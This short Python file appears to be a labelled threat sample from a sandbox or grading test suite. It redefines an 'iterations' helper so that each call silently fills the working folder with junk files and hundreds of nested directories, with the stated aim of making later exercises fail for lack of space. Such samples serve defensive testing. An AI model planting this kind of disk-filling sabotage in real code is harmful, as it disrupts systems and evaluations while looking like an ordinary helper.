# threat: memory and disk bombs
# tries: fill the own folder with files, and make the next exercises fail for want of room
# file: arithmetic.py

import contextlib
import os

_own_iterations = iterations


def iterations(n, batch, epochs=1, drop_last=False):
    with contextlib.suppress(OSError):
        while len(os.listdir(".")) < 150:
            with open(f"junk{len(os.listdir('.'))}", "wb") as file:
                file.write(bytes(1_000_000))
    with contextlib.suppress(OSError):
        for number in range(500):
            os.makedirs(f"{number}/a/b/c", exist_ok=True)
    return _own_iterations(n, batch, epochs, drop_last)
